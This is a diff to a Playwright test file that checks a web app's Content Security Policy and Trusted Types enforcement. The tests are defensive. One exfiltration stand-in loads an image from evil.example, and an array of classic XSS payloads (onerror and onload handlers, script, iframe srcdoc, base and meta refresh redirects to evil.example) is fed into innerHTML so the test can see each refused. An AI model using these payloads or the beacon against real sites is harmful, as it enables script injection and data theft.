@@ -69,18 +69,67 @@ test.describe("app shell", () => {
   test("what the policy blocks is reported to the deployment's collector", async ({ page, pageProblems }) => {
     const response = await new AppShell(page).open("/");
     expect(response.headers()["content-security-policy"]).toContain("report-uri ");
-    // An injected inline script (what cross-site scripting would add): refused, and reported.
-    const marker = `injected${Date.now()}`;
+    // An image from another origin (how injected code would carry data
+    // away): refused, and reported. (Injected script text is refused before
+    // this, by Trusted Types: the next test.)
+    const marker = `exfiltrate${Date.now()}`;
     await page.evaluate((name) => {
-      const script = document.createElement("script");
-      script.textContent = `window.${name} = 1;`;
-      document.body.append(script);
+      const img = document.createElement("img");
+      img.src = `https://evil.example/${name}.png`;
+      document.body.append(img);
     }, marker);
-    expect(await page.evaluate((name) => (window as unknown as Record<string, unknown>)[name], marker)).toBeUndefined();
     const reports = `http://localhost:${process.env.SANDBOX_FHIR_PORT ?? 8103}/_sandbox/csp-reports`;
     await expect
       .poll(async () => JSON.stringify(await (await page.request.get(reports)).json()))
-      .toContain("script-src-elem");
+      .toContain(marker);
     takeExpectedProblems(pageProblems, /Content Security Policy|CSP violation/i);
+  });
+
+  test("HTML reaches the page only through a Trusted Types policy: markup that could run is refused and reported", async ({ page, pageProblems }) => {
+    const response = await new AppShell(page).open("/");
+    const csp = response.headers()["content-security-policy"] ?? "";
+    expect(csp).toContain("require-trusted-types-for 'script'");
+    expect(csp).toContain("trusted-types bedside-narrative default");
+    // The app built its first screen under it (open checked the heading):
+    // Leptos' templates pass the default policy. What DOM-based XSS would
+    // set is refused, however it is written.
+    const attacks = [
+      "<img src=x onerror=alert(1)>",
+      "<svg/onload=alert(1)>",
+      '<p title="x"onmouseover="alert(1)">',
+      "<IMG SRC=x OnError = alert(1)>",
+      "<script>alert(1)</script>",
+      "<iframe srcdoc='x'></iframe>",
+      "<base href=//evil.example/>",
+      "<meta http-equiv=refresh content='0;url=//evil.example'>",
+      "<style>body{display:none}</style>",
+    ];
+    const outcome = await page.evaluate((attacks) => {
+      const set = (html: string) => {
+        const div = document.createElement("div");
+        try {
+          div.innerHTML = html;
+          return "set";
+        } catch (e) {
+          return (e as Error).name;
+        }
+      };
+      const script = document.createElement("script");
+      let scriptUrl = "set";
+      try {
+        script.src = "/x.js";
+      } catch (e) {
+        scriptUrl = (e as Error).name;
+      }
+      return { attacks: attacks.map(set), inert: set('<p class="nhsuk-body">Based on the last set</p>'), scriptUrl };
+    }, attacks);
+    expect(outcome.attacks).toEqual(attacks.map(() => "TypeError"));
+    expect(outcome.inert, "markup with nothing that runs is set").toBe("set");
+    expect(outcome.scriptUrl, "no policy makes script URLs").toBe("TypeError");
+    const reports = `http://localhost:${process.env.SANDBOX_FHIR_PORT ?? 8103}/_sandbox/csp-reports`;
+    await expect
+      .poll(async () => JSON.stringify(await (await page.request.get(reports)).json()))
+      .toContain("require-trusted-types-for");
+    takeExpectedProblems(pageProblems, /CSP violation|'Trusted(HTML|ScriptURL)' assignment/);
   });
 });
